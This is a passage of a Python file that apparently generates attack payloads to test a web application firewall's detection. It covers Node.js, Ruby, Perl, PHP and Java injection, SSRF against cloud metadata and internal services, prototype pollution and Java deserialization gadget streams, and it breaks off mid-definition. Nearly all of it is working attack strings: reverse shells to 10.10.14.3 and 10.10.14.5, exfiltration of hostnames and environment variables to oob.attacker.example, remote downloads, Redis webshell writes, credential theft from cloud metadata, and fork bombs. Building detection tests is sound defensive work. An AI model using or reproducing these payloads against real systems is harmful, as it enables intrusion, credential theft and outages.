"""Blind set "hundredeightysixth": Node.js, SSRF, prototype pollution, Ruby, Perl and data: wrapper injection, Java
attacks and server-side template injection the way security courses teach them, with benign requests that carry
the same words innocently.

The angle: security education, recalled from memory. Each group of payloads is what a textbook's worked example,
an exam candidate's notes, an online academy's lab solution, a teacher's cheat sheet, a university assignment or a
conference workshop shows for the vulnerability class: first the classic teaching example, then the "advanced"
chapter that follows it (filter evasion, context-specific breakouts, blind and out-of-band techniques, encodings,
sandbox escapes, gadget chains). Every payload is still a working attack on the target its comment names (Node.js,
the cloud metadata services, Ruby, Perl, PHP, the JVM and its products, each template engine).

Families (one sub-family per detection title):
  generic: nodejs-injection, nodejs-dos, ssrf-cloud-metadata, ssrf-internal-ip, javascript-prototype-pollution,
    ruby-injection, perl-injection, php-data-scheme
  java: java-class-names, java-process-spawn, java-serialization, deserialization-gadgets, log4shell,
    expression-language, polymorphic-deserialization (XStream, XMLDecoder, fastjson, Jackson, SnakeYAML),
    class-loading, jsp-upload
  ssti: jinja2, twig, freemarker, velocity, thymeleaf, erb, smarty, handlebars, pug, mako, tornado, nunjucks,
    ejs, pebble, razor, go-templates, liquid

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path; JNDI lookups mostly in headers a logger records), once the way a WAF regression
suite sends it (placements prefixed "rs-"): to paths that are not our routes (/, /index.php, /get, /post, /search,
/api/v1/items, /cgi-bin/test.cgi) under arbitrary parameter names, as a query string, form body, JSON body, XML
body, a raw form-typed body, or in User-Agent, Referer, a custom header or a cookie. Whole documents (JSON
pollution and polymorphic-typing documents, YAML, XStream/XMLDecoder XML) go as the request body; bracket and
binding parameters (`__proto__[x]=1`, `class.module.classLoader...=`, `settings[view options][...]=`) go as raw
`name=value` pairs written in their wire form; Java serialization streams go as bytes, percent-encoded, in
query strings and form bodies; JSP uploads go as a multipart file (its name, and the JSP it carries).

Authorship and independence: written for this repository from general knowledge of each attack family, course
and textbook material as remembered, and the detection titles alone; no WAF rule, engine source, ruleset
regression test or public payload list was read. Measured once on unchanged code; deterministic (no clock, no
randomness).
"""

from __future__ import annotations

import base64
import gzip
from collections.abc import Iterator, Sequence
from typing import Any

from .blind_placements import BlindSet, Cycles
from .records import print_records

NAME = "hundredeightysixth"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _codes(text: str) -> str:
    """The character codes of `text`, comma-separated (String.fromCharCode / chr() obfuscation)."""
    return ",".join(str(ord(ch)) for ch in text)


def body(payload: str) -> tuple[str, str, str]:
    """A whole JSON document as the request body."""
    return payload, "json-body", "rs-json-body"


def yaml(payload: str) -> tuple[str, str, str]:
    """A whole YAML document as the request body."""
    return payload, "yaml-body", "rs-yaml-body"


def xml(payload: str) -> tuple[str, str, str]:
    """A whole XML document as the request body."""
    return payload, "xml", "rs-xml"


def kv(payload: str, k: int = 0) -> tuple[str, str, str]:
    """A raw `name=value` pair (wire form) in the query string, or the form body."""
    return (payload, "query", "rs-query") if k % 2 == 0 else (payload, "form", "rs-raw-body")


def hdr(payload: str, name: str) -> tuple[str, str, str]:
    """A payload that belongs in one header."""
    return payload, "header:" + name, "rs-header:" + name


# ================================================================================================================
# generic
# ================================================================================================================

# nodejs-injection (target: Node.js, an Express handler that passes input to eval(), Function() or vm)
NODE_INJECTION: list[Entry] = [
    # textbook chapter "server-side JavaScript injection": the first worked examples against eval(req.query.x)
    "require('child_process').exec('id')",
    "require('child_process').execSync('cat /etc/passwd').toString()",
    "res.end(require('fs').readFileSync('/etc/passwd'))",
    "require('fs').writeFileSync('/tmp/pwned','owned by the lab')",
    # academy lab: the sink is inside an ES module, require is not in scope, process.mainModule still is
    "process.mainModule.require('child_process').execSync('id').toString()",
    "global.process.mainModule.constructor._load('child_process').execSync('whoami')",
    ("process.binding('spawn_sync').spawn({file:'/bin/sh',args:['/bin/sh','-c','id'],"
     "stdio:[{type:'pipe',readable:true,writable:false},{type:'pipe',readable:true,writable:true}]})"),
    # exam notes: input concatenated into a string that eval() runs, so close the string and comment the rest
    "';require('child_process').exec('nc -e /bin/sh 10.10.14.3 4444');//",
    "\");process.mainModule.require('child_process').exec('id');//",
    "1;require('child_process').execSync('sleep 10')",
    # workshop: the Function constructor and the vm "sandbox" escape
    "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')",
    "Function('return process')().mainModule.require('child_process').execSync('uname -a')",
    "new Function(\"return this.process.mainModule.require('child_process').execSync('id').toString()\")()",
    "const vm=require('vm');vm.runInNewContext(\"this.constructor.constructor('return process')().exit()\")",
    # filter-evasion chapter: split keywords, bracket access, escapes, base64 and char codes
    "require('child_'+'process')['ex'+'ecSync']('id')",
    r"process['mainModule']['require']('child\x5fprocess')['execSync']('id')",
    "eval(Buffer.from('" + _b64("require('child_process').execSync('id')") + "','base64').toString())",
    "eval(String.fromCharCode(" + _codes("require('child_process').execSync('id')") + "))",
    "global[String.fromCharCode(101,118,97,108)]('process.mainModule.require(\"child_process\").execSync(\"id\")')",
    # blind and out-of-band chapter: no output on the page, so the answer leaves by DNS or HTTP
    "require('child_process').exec('curl http://oob.attacker.example/$(whoami)')",
    "require('dns').lookup(require('os').hostname()+'.oob.attacker.example',function(){})",
    ("require('http').get('http://oob.attacker.example/?e='+Buffer.from(JSON.stringify(process.env))"
     ".toString('base64'))"),
    # deserialization exercise: node-serialize unserialize() runs an immediately-invoked function (CVE-2017-5941)
    body('{"rce":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'id\')}()"}'),
    "_$$ND_FUNC$$_function(){require('child_process').exec('ls /',function(e,o){console.log(o)})}()",
    # capstone lab: the reverse shell the course hands out
    ("(function(){var net=require('net'),cp=require('child_process'),sh=cp.spawn('/bin/sh',[]);"
     "var c=new net.Socket();c.connect(4444,'10.10.14.3',function(){c.pipe(sh.stdin);sh.stdout.pipe(c);"
     "sh.stderr.pipe(c);});return /a/;})()"),
]

# nodejs-dos (target: the single-threaded Node.js event loop and V8: an eval sink or a regex fed by input)
NODE_DOS: list[Entry] = [
    # course slide "one thread": code that never returns stops every request
    "while(true){}",
    "for(;;){}",
    "(function f(){Promise.resolve().then(f)})()",
    "Atomics.wait(new Int32Array(new SharedArrayBuffer(4)),0,0)",
    "require('crypto').pbkdf2Sync('a','b',1e10,64,'sha512')",
    "process.kill(process.pid,'SIGKILL')",
    # huge allocations: the heap limit takes the process down
    "new Array(1e9).fill(0)",
    "'x'.repeat(2**29)",
    "Buffer.alloc(2**31-1)",
    "JSON.stringify(new Array(1e8).fill('x'))",
    "require('zlib').gunzipSync(require('zlib').gzipSync(Buffer.alloc(2**30)))",
    "require('child_process').execSync(':(){ :|:& };:')",
    # ReDoS chapter: catastrophic backtracking in V8's irregexp
    "new RegExp('(a+)+$').test('a'.repeat(40)+'!')",
    "/(x+x+)+y/.test('x'.repeat(50))",
    # the user-supplied pattern exercise (the app builds new RegExp(req.query.pattern)): evil regexes
    "^(([a-z])+.)+[A-Z]([a-z])+$",
    "(.*a){25}",
    # the matching input for the textbook's vulnerable /^(a+)+$/ validator
    "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!",
]

# ssrf-cloud-metadata (target: the instance metadata services of AWS, GCP, Azure, Alibaba, DigitalOcean, Oracle,
# OpenStack, Hetzner, reached through a server-side URL fetch)
SSRF_METADATA: list[Entry] = [
    # the cloud-security course's first SSRF lab: AWS IMDSv1
    "http://169.254.169.254/latest/meta-data/",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/ec2-default-ssm",
    "http://169.254.169.254/latest/user-data",
    "http://169.254.169.254/latest/dynamic/instance-identity/document",
    "http://169.254.170.2/v2/credentials/",
    # IMDSv2 needs a PUT with a header: the gopher chapter builds it by hand
    ("gopher://169.254.169.254:80/_PUT%20/latest/api/token%20HTTP/1.1%0D%0AHost:%20169.254.169.254%0D%0A"
     "X-aws-ec2-metadata-token-ttl-seconds:%2021600%0D%0A%0D%0A"),
    # GCP: the v1beta1 path answered without the Metadata-Flavor header
    "http://metadata.google.internal/computeMetadata/v1beta1/instance/service-accounts/default/token",
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "http://169.254.169.254/computeMetadata/v1/instance/attributes/?recursive=true&alt=text",
    # Azure IMDS and its managed-identity token
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    ("http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01"
     "&resource=https://management.azure.com/"),
    # Alibaba Cloud, DigitalOcean, Oracle Cloud, OpenStack, Hetzner
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "http://169.254.169.254/metadata/v1.json",
    "http://169.254.169.254/opc/v2/instance/",
    "http://169.254.169.254/openstack/latest/meta_data.json",
    # filter-evasion chapter: the same address as IPv6, decimal, hex, octal, a wildcard DNS name, userinfo
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://[::ffff:169.254.169.254]/latest/meta-data/",
    "http://[::ffff:a9fe:a9fe]/latest/meta-data/iam/",
    "http://2852039166/latest/meta-data/",
    "http://0xa9fea9fe/latest/meta-data/",
    "http://0251.0376.0251.0376/latest/meta-data/",
    "http://169.254.169.254.nip.io/latest/meta-data/",
    "http://allowed.example.com@169.254.169.254/latest/meta-data/",
]

# ssrf-internal-ip (target: services on the loopback and private network, reached through a URL fetch:
# admin panels, Redis, memcached, Docker, etcd, Consul, Elasticsearch, kubelet, local files)
SSRF_INTERNAL: list[Entry] = [
    # the textbook's SSRF example: the stock-check URL pointed at localhost
    "http://localhost/admin",
    "http://127.0.0.1:8080/actuator/env",
    "http://192.168.0.1/admin/delete?username=carlos",
    # localhost in every form the blacklist chapter lists
    "http://127.1/",
    "http://0/",
    "http://2130706433/",
    "http://0x7f000001/",
    "http://017700000001/",
    "http://0177.0.0.1/",
    "http://[::1]:6379/",
    "http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460/",
    "http://allowed.example.com#@127.0.0.1/",
    "http://127.0.0.1%2523@allowed.example.com/",
    # internal services the lab network exposes
    "http://127.0.0.1:2375/containers/json",
    "http://localhost:9200/_cat/indices?v",
    "https://10.0.0.1:10250/pods",
    "http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets",
    # scheme chapter: file, gopher, dict, ldap, jar, netdoc
    "file:///etc/passwd",
    "file:///proc/self/environ",
    ("gopher://127.0.0.1:6379/_SET%20x%20%22%3C%3Fphp%20system%28%24_GET%5Bc%5D%29%3B%3F%3E%22%0D%0A"
     "CONFIG%20SET%20dir%20%2Fvar%2Fwww%2Fhtml%0D%0ACONFIG%20SET%20dbfilename%20s.php%0D%0ASAVE%0D%0A"),
    ("gopher://127.0.0.1:25/_HELO%20lab%0D%0AMAIL%20FROM:%3Croot@lab%3E%0D%0ARCPT%20TO:%3Cvictim@example.org%3E"
     "%0D%0ADATA%0D%0ASubject:%20ssrf%0D%0A%0D%0Ahi%0D%0A.%0D%0AQUIT%0D%0A"),
    "dict://127.0.0.1:6379/info",
    "dict://127.0.0.1:6379/CONFIG%20SET%20dir%20/root/.ssh/",
    "ldap://127.0.0.1:389/%0astats%0aquit",
    "jar:http://127.0.0.1:8080/lib/app.jar!/META-INF/MANIFEST.MF",
    "netdoc:///etc/passwd",
]

# javascript-prototype-pollution (target: Node.js deep merge / lodash / qs parsing and the gadgets behind them;
# the browser for the client-side lab)
POLLUTION: list[Entry] = [
    # academy's first lab: qs turns bracket keys into nested objects, merge() writes into Object.prototype
    kv("__proto__[isAdmin]=true", 0),
    kv("__proto__.isAdmin=true", 1),
    kv("constructor[prototype][isAdmin]=true", 0),
    kv("constructor.prototype.role=admin", 1),
    # filter that deletes "__proto__" once: the nested copy survives the deletion
    kv("__pro__proto__to__[isAdmin]=true", 0),
    # client-side lab (browser): deparam pollutes, a script gadget reads the property
    kv("__proto__[transport_url]=data:,alert(document.domain)//", 1),
    kv("__proto__[innerHTML]=<img/src/onerror=alert(1)>", 0),
    # server-side gadgets to code execution: EJS outputFunctionName, child_process options
    kv("__proto__[outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');s", 1),
    kv("__proto__[NODE_OPTIONS]=--require+/proc/self/environ&__proto__[env][A]=require('child_process')"
       ".execSync('id')//", 0),
    # JSON body: JSON.parse keeps "__proto__" as a key, the merge then walks into it
    body('{"__proto__":{"isAdmin":true}}'),
    body('{"constructor":{"prototype":{"isAdmin":true}}}'),
    body('{"user":"wiener","__proto__":{"roles":["admin"]}}'),
    # blind detection chapter: properties whose pollution changes the response without breaking the app
    body('{"__proto__":{"status":555}}'),
    body('{"__proto__":{"json spaces":10}}'),
    body('{"__proto__":{"exposedHeaders":["X-Polluted"]}}'),
    body('{"__proto__":{"content-type":"application/json; charset=utf-7"}}'),
    # RCE gadgets: template engines and child_process.spawn options
    body('{"__proto__":{"outputFunctionName":"_t;global.process.mainModule.require(\'child_process\')'
         '.execSync(\'id\');var _u"}}'),
    body('{"__proto__":{"block":{"type":"Text","line":"process.mainModule.require(\'child_process\')'
         '.execSync(\'id\')"}}}'),
    body('{"__proto__":{"shell":"/proc/self/exe","argv0":"console.log(require(\'child_process\')'
         '.execSync(\'id\').toString())//","NODE_OPTIONS":"--require /proc/self/cmdline"}}'),
    body('{"constructor":{"prototype":{"env":{"EVIL":"console.log(require(\'child_process\')'
         '.execSync(\'id\').toString())//"},"NODE_OPTIONS":"--require /proc/self/environ"}}}'),
    # lodash _.set / _.zipObjectDeep with an attacker-chosen path
    body('{"path":"__proto__.isAdmin","value":true}'),
    body('{"path":["constructor","prototype","isAdmin"],"value":true}'),
]

# ruby-injection (target: Ruby / Rails: eval sinks, Kernel#open, send, ERB, YAML.load)
RUBY: list[Entry] = [
    # the Ruby secure-coding course's eval(params[:x]) examples
    "`id`",
    "system('id')",
    "%x(cat /etc/passwd)",
    "exec('/bin/sh -c id')",
    "IO.popen('id').read",
    # Kernel#open with a leading pipe: a "file name" parameter runs a command
    "|id",
    "|cat /etc/passwd",
    "| curl http://oob.attacker.example/$(whoami)",
    "Kernel.open('|id').read",
    # interpolation chapter: input placed inside a double-quoted string that is eval'd
    "#{`id`}",
    '"+`id`+"',
    "';system('id');'",
    # reflection chapter: send / const_get / instance_eval with attacker-chosen names
    "Kernel.send(:system,'id')",
    "Object.const_get('Kernel').public_send(:exec,'id')",
    "instance_eval('`id`')",
    "Process.spawn('nc 10.10.14.3 4444 -e /bin/sh')",
    "require 'socket';s=TCPSocket.new('10.10.14.3',4444);while(c=s.gets);IO.popen(c,'r'){|i|s.print i.read};end",
    "require 'open3';Open3.capture2('id')[0]",
    "ERB.new('<%= `id` %>').result",
    # anchors lesson: Ruby's ^ and $ match at line breaks, so a second line passes /^[a-z]+$/
    "john\n#{`id`}",
    # YAML.load deserialisation (psych < 4): the universal Gem::Requirement gadget chain
    yaml("--- !ruby/object:Gem::Installer\n    i: x\n--- !ruby/object:Gem::SpecFetcher\n    i: y\n"
         "--- !ruby/object:Gem::Requirement\nrequirements:\n  !ruby/object:Gem::Package::TarReader\n"
         "  io: &1 !ruby/object:Net::BufferedIO\n    io: &1 !ruby/object:Gem::Package::TarReader::Entry\n"
         "       read: 0\n       header: \"abc\"\n    debug_output: &1 !ruby/object:Net::WriteAdapter\n"
         "       socket: &1 !ruby/object:Gem::RequestSet\n           sets: !ruby/object:Net::WriteAdapter\n"
         "               socket: !ruby/module 'Kernel'\n               method_id: :system\n"
         "           git_set: id\n       method_id: :resolve\n"),
    # Rails CVE-2013-0156: an XML parameter typed as YAML
    xml('<?xml version="1.0" encoding="UTF-8"?><user type="yaml">--- !ruby/hash:ActionController::Routing::'
        'RouteSet::NamedRouteCollection\n? ! "foo\\n  (system(\'id\'); @executed = true) unless @executed\\n'
        '  __END__\\n"\n: !ruby/struct\n  defaults:\n    :action: create\n    :controller: foos\n</user>'),
]

# perl-injection (target: Perl CGI scripts: two-argument open(), system, eval, qx, backticks)
PERL: list[Entry] = [
    # CGI course: open(FILE, $param) decides the mode from the name, a trailing or leading pipe runs it
    "/usr/bin/id|",
    "cat /etc/passwd|",
    "|/bin/ls -la /",
    "|nc -e /bin/sh 10.10.14.3 4444|",
    "ls -la /var/www|",
    "|/usr/bin/id",
    # eval / system / qx sinks
    'system("id")',
    "qx(id)",
    "qx{cat /etc/passwd}",
    "`/usr/bin/id`",
    "exec('/bin/sh')",
    "print `id`",
    "open(my $f,'-|','id');print <$f>",
    # interpolation tricks when input lands inside an eval'd double-quoted string
    "@{[ `id` ]}",
    "${\\ `id`}",
    "\";print `cat /etc/passwd`;#",
    "';system('id');#",
    # the /e modifier lesson: the replacement side is code
    "$_='x';s/x/system('id')/e",
    # workshop one-liner reverse shell
    ('use Socket;$i="10.10.14.3";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
     'if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");'
     'exec("/bin/sh -i");};'),
    "do '/tmp/upload.pl'",
]

# php-data-scheme (target: PHP include()/require() and file_get_contents() given a data: wrapper,
# allow_url_include=On)
SHELL = "<?php system($_GET['cmd']); ?>"
PHP_DATA: list[Entry] = [
    # the LFI-to-RCE chapter: data:// carries the code itself
    "data://text/plain;base64," + _b64(SHELL),
    "data://text/plain,<?php phpinfo(); ?>",
    "data:text/plain,<?php system('id'); ?>",
    "data://text/plain,<?=`$_GET[0]`?>",
    "data://text/plain,<?php echo file_get_contents('/etc/passwd'); ?>",
    # filter-evasion chapter: case, MIME types, parameters, no slashes, url-encoded plus
    "DATA://text/plain;base64," + _b64("<?php passthru('id'); ?>"),
    "data:;base64," + _b64("<?php echo shell_exec($_REQUEST['c']); ?>"),
    "data://image/jpeg;base64," + _b64("<?php system('uname -a'); ?>"),
    "data://text/plain;charset=utf-8;base64," + _b64("<?php eval($_POST['x']); ?>"),
    "data:application/x-httpd-php;base64," + _b64("<?php phpinfo(); ?>"),
    "data://text/plain;base64," + _b64("<?php phpinfo(); ?>").replace("+", "%2b").replace("=", "%3d"),
    # the web shell dropper exercise
    "data://text/plain;base64," + _b64("<?php file_put_contents('s.php','<?php system($_GET[c]); ?>'); ?>"),
    # as the include parameter itself
    kv("page=data://text/plain;base64," + _b64("<?php system('id'); ?>"), 0),
    kv("file=data:text/plain,<?php+echo+`whoami`;+?>", 1),
]

# ================================================================================================================
# java
# ================================================================================================================

# java-class-names (target: a JVM that evaluates input by reflection or a script engine: BeanShell, Nashorn,
# Groovy, JShell consoles, "calculator" and rule-engine fields)
JAVA_CLASSES: list[Entry] = [
    # the Java secure-coding course's reflection chapter: the classes that must never be reachable
    'java.lang.Runtime.getRuntime().exec("id")',
    'Runtime.getRuntime().exec(new String[]{"/bin/sh","-c","id > /tmp/out"})',
    'java.lang.Runtime.class.getMethod("getRuntime").invoke(null)',
    ('Class.forName("java.lang.Runtime").getMethod("exec",String.class).invoke(Class.forName("java.lang.Runtime")'
     '.getMethod("getRuntime").invoke(null),"id")'),
    'Thread.currentThread().getContextClassLoader().loadClass("java.lang.Runtime")',
    'java.lang.ClassLoader.getSystemClassLoader().loadClass("java.lang.ProcessBuilder")',
    # the script-engine chapter: ScriptEngineManager turns a string into JavaScript with Java access
    ('new javax.script.ScriptEngineManager().getEngineByName("nashorn").eval("java.lang.Runtime.getRuntime()'
     '.exec(\'id\')")'),
    'new javax.script.ScriptEngineManager().getEngineByExtension("js").eval("quit()")',
    'Java.type("java.lang.Runtime").getRuntime().exec("id")',
    "$EXEC('id')",
    'jdk.jshell.JShell.create().eval("Runtime.getRuntime().exec(\\"id\\")")',
    # information disclosure examples: environment, properties, files
    "java.lang.System.getenv()",
    'java.lang.System.getProperty("user.dir")',
    'new String(java.nio.file.Files.readAllBytes(java.nio.file.Paths.get("/etc/passwd")))',
    "java.lang.System.exit(0)",
    # Groovy and BeanShell consoles (Jenkins script console, BeanShell servlets)
    '"id".execute().text',
    "['sh','-c','cat /etc/passwd'].execute().text",
    'bsh.Interpreter().eval("exec(\\"id\\")")',
    'new javax.naming.InitialContext().lookup("ldap://attacker.example:1389/Exploit")',
]

# java-process-spawn (target: the JVM spawning an OS process: Runtime.exec, ProcessBuilder, in any evaluator)
JAVA_SPAWN: list[Entry] = [
    # textbook: ProcessBuilder with an argument array, then reading the output back
    'new ProcessBuilder("id").start()',
    'new java.lang.ProcessBuilder(new String[]{"/bin/bash","-c","bash -i >& /dev/tcp/10.10.14.5/4444 0>&1"}).start()',
    'new ProcessBuilder("cmd.exe","/c","whoami").redirectErrorStream(true).start().getInputStream()',
    'new java.util.Scanner(Runtime.getRuntime().exec("id").getInputStream()).useDelimiter("\\\\A").next()',
    'org.apache.commons.io.IOUtils.toString(Runtime.getRuntime().exec("id").getInputStream(),"UTF-8")',
    # the exec(String) tokenizer lesson: no shell, so braces and base64 rebuild a pipeline
    ('Runtime.getRuntime().exec("bash -c {echo,' + _b64("bash -i >& /dev/tcp/10.10.14.5/4444 0>&1")
     + '}|{base64,-d}|{bash,-i}")'),
    'Runtime.getRuntime().exec("powershell -nop -enc ' + base64.b64encode("whoami".encode("utf-16-le")).decode()
    + '")',
    'Runtime.getRuntime().exec("cmd.exe /c certutil -urlcache -f http://attacker.example/nc.exe nc.exe")',
    # blind and out-of-band chapter
    'Runtime.getRuntime().exec("nslookup oob.attacker.example")',
    'Runtime.getRuntime().exec("curl http://oob.attacker.example/x -o /tmp/x")',
    'Runtime.getRuntime().exec("sleep 10").waitFor()',
    'Runtime.getRuntime().exec(new String[]{"sh","-c","ping -c 10 127.0.0.1"})',
    # advanced: the JDK internals behind ProcessBuilder, reached by reflection when ProcessBuilder is denied
    ('Class.forName("java.lang.ProcessImpl").getDeclaredMethod("start",String[].class,java.util.Map.class,'
     'String.class,ProcessBuilder.Redirect[].class,boolean.class)'),
    'java.lang.ProcessBuilder.class.getConstructor(java.util.List.class).newInstance(java.util.List.of("id")).start()',
    # Groovy shorthands the Jenkins module teaches
    '"curl http://oob.attacker.example/?h=${InetAddress.localHost.hostName}".execute()',
    "Runtime.runtime.exec('touch /tmp/pwned')",
]


# java-serialization / deserialization-gadgets (target: ObjectInputStream.readObject on a request value: JBoss
# JMXInvoker, Jenkins CLI, JSF ViewState, WebLogic, any Spring/Tomcat endpoint that reads a session blob).
# Streams are built from their grammar: magic, TC_OBJECT, class descriptors (name, serialVersionUID, flags,
# fields), the class data. Gadget streams are the head of the chain: the classes a look-ahead filter must stop.
MAGIC = b"\xac\xed\x00\x05"
Field = tuple[str, str, str]   # (type code, field name, class name for object fields)


def _utf(s: str) -> bytes:
    return len(s).to_bytes(2, "big") + s.encode()


def _desc(name: str, suid: int, fields: Sequence[Field] = (), flags: int = 2) -> bytes:
    """TC_CLASSDESC: name, serialVersionUID, flags, fields, TC_ENDBLOCKDATA."""
    out = b"\x72" + _utf(name) + suid.to_bytes(8, "big", signed=True) + bytes([flags])
    out += len(fields).to_bytes(2, "big")
    for code, fname, cls in fields:
        out += code.encode() + _utf(fname) + (b"\x74" + _utf(cls) if cls else b"")
    return out + b"\x78"


def _tc_string(s: str) -> bytes:
    return b"\x74" + _utf(s)


def _chain(*classes: tuple[str, int, Sequence[Field]], tail: bytes = b"") -> str:
    """A stream whose objects nest: each class's first object field holds the next object; then `tail`."""
    out = MAGIC
    for name, suid, fields in classes:
        out += b"\x73" + _desc(name, suid, fields) + b"\x70"
    return (out + tail).decode("latin-1")


STR = "Ljava/lang/String;"
MAP = "Ljava/util/Map;"
OBJ = "Ljava/lang/Object;"


def _urldns(host: str) -> str:
    """ysoserial URLDNS: a HashMap whose key is a java.net.URL; hashing the key resolves the host (blind probe)."""
    hashmap = _desc("java.util.HashMap", 362498820763181265, [("F", "loadFactor", ""), ("I", "threshold", "")], 3)
    url = _desc("java.net.URL", -7627629688361524110, [
        ("I", "hashCode", ""), ("I", "port", ""), ("L", "authority", STR), ("L", "file", STR), ("L", "host", STR),
        ("L", "protocol", STR), ("L", "ref", STR)], 3)
    out = MAGIC + b"\x73" + hashmap + b"\x70" + b"\x3f\x40\x00\x00" + b"\x00\x00\x00\x0c"
    out += b"\x77\x08" + b"\x00\x00\x00\x10" + b"\x00\x00\x00\x01"
    out += b"\x73" + url + b"\x70" + b"\xff\xff\xff\xff" * 2
    out += _tc_string(host) + _tc_string("") + _tc_string(host) + _tc_string("http") + b"\x70" + b"\x78"
    out += _tc_string("http://" + host) + b"\x78"
    return out.decode("latin-1")


def _b64l(stream: str) -> str:
    return base64.b64encode(stream.encode("latin-1")).decode()


def _gz64(stream: str) -> str:
    return base64.b64encode(gzip.compress(stream.encode("latin-1"), mtime=0)).decode()


URLDNS = _urldns("oob.attacker.example")
URLDNS_HOST = _urldns("javadeser.c9f1.oob.attacker.example")
VIEWSTATE = (MAGIC + b"\x75" + _desc("[Ljava.lang.Object;", -8012369246846506644) + b"\x70"
             + b"\x00\x00\x00\x02" + _urldns("viewstate.oob.attacker.example").encode("latin-1")[4:]
             + _tc_string("/login.xhtml")).decode("latin-1")
JAVA_SERIAL: list[Entry] = [
    # the course's first deserialization lab: a URLDNS probe, raw bytes (percent-encoded on the wire)
    URLDNS,
    # the same stream as exam notes list it: base64 (rO0AB), base64url, hex, gzip+base64 (H4sI), MIME lines
    _b64l(URLDNS),
    base64.urlsafe_b64encode(URLDNS.encode("latin-1")).decode().rstrip("="),
    URLDNS_HOST.encode("latin-1").hex(),
    URLDNS_HOST.encode("latin-1").hex().upper(),
    _gz64(URLDNS_HOST),
    "\r\n".join(_b64l(URLDNS_HOST)[i:i + 76] for i in range(0, len(_b64l(URLDNS_HOST)), 76)),
    _b64l(URLDNS_HOST),
    # product exercises: JSF ViewState (Mojarra, unencrypted), Jenkins CLI remoting preamble (CVE-2015-8103)
    kv("javax.faces.ViewState=" + _b64l(VIEWSTATE).replace("+", "%2B").replace("/", "%2F").replace("=", "%3D")),
    VIEWSTATE,
    "<===[JENKINS REMOTING CAPACITY]===>" + _b64l(URLDNS),
    # a serialized java.lang.String and Object[] as a first "is it deserialized?" probe
    (MAGIC + b"\x74" + _utf("${jndi:ldap://oob.attacker.example/ser}")).decode("latin-1"),
    _b64l((MAGIC + b"\x75" + _desc("[Ljava.lang.Object;", -8012369246846506644) + b"\x70"
           + b"\x00\x00\x00\x01" + _tc_string("rce-probe")).decode("latin-1")),
]

# commons-collections 1/5/6, CommonsCollections2 + TemplatesImpl, CommonsBeanutils1, Spring1/2, Groovy1, Jdk7u21,
# C3P0, ROME, Hibernate1, JRMPClient: the chains the ysoserial chapter walks through
INVOKER = ("org.apache.commons.collections.functors.InvokerTransformer", -8653385846894047688,
           [("L", "iArgs", "[Ljava/lang/Object;"), ("L", "iMethodName", STR),
            ("L", "iParamTypes", "[Ljava/lang/Class;")])
CHAINED = ("org.apache.commons.collections.functors.ChainedTransformer", 3514945074733160196,
           [("L", "iTransformers", "[Lorg/apache/commons/collections/Transformer;")])
LAZYMAP = ("org.apache.commons.collections.map.LazyMap", 7990956402564206740,
           [("L", "factory", "Lorg/apache/commons/collections/Transformer;")])
AIH = ("sun.reflect.annotation.AnnotationInvocationHandler", 6182022883658399397,
       [("L", "memberValues", MAP), ("L", "type", "Ljava/lang/Class;")])
TEMPLATES = ("com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl", 673094361519270707,
             [("I", "_indentNumber", ""), ("I", "_transletIndex", ""), ("[", "_bytecodes", "[[B"),
              ("[", "_class", "[Ljava/lang/Class;"), ("L", "_name", STR),
              ("L", "_outputProperties", "Ljava/util/Properties;")])
EXEC = _tc_string("exec") + _tc_string("id")
CLASSFILE = b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + _utf("ysoserial/Pwner") + _utf("java/lang/Runtime") + _utf("exec")

PROXY = ("java.lang.reflect.Proxy", -2222568056686623797, [("L", "h", "Ljava/lang/reflect/InvocationHandler;")])
CC1 = _chain(AIH, PROXY, AIH, LAZYMAP, CHAINED, INVOKER, tail=EXEC)
CC5 = _chain(("javax.management.BadAttributeValueExpException", -3105272988410493376, [("L", "val", OBJ)]),
             ("org.apache.commons.collections.keyvalue.TiedMapEntry", -8453869361373831205,
              [("L", "key", OBJ), ("L", "map", MAP)]), LAZYMAP, CHAINED, INVOKER,
             tail=_tc_string("getRuntime") + _tc_string("exec") + _tc_string("touch /tmp/cc5"))
CC6 = _chain(("java.util.HashSet", -5024744406713321676, []),
             ("org.apache.commons.collections.keyvalue.TiedMapEntry", -8453869361373831205,
              [("L", "key", OBJ), ("L", "map", MAP)]), LAZYMAP, CHAINED, INVOKER,
             tail=_tc_string("exec") + _tc_string("curl http://oob.attacker.example/cc6"))
CC2 = _chain(("java.util.PriorityQueue", -7720805057305804111, [("I", "size", ""),
                                                                ("L", "comparator", "Ljava/util/Comparator;")]),
             ("org.apache.commons.collections4.comparators.TransformingComparator", -9114006418220394151,
              [("L", "decorated", "Ljava/util/Comparator;"),
               ("L", "transformer", "Lorg/apache/commons/collections4/Transformer;")]),
             ("org.apache.commons.collections4.functors.InvokerTransformer", -8653385846894047688,
              [("L", "iArgs", "[Ljava/lang/Object;"), ("L", "iMethodName", STR)]),
             TEMPLATES, tail=_tc_string("newTransformer") + b"\x75\x72" + _utf("[[B") + CLASSFILE)
CB1 = _chain(("java.util.PriorityQueue", -7720805057305804111, [("I", "size", ""),
                                                                ("L", "comparator", "Ljava/util/Comparator;")]),
             ("org.apache.commons.beanutils.BeanComparator", -2044202215314119608,
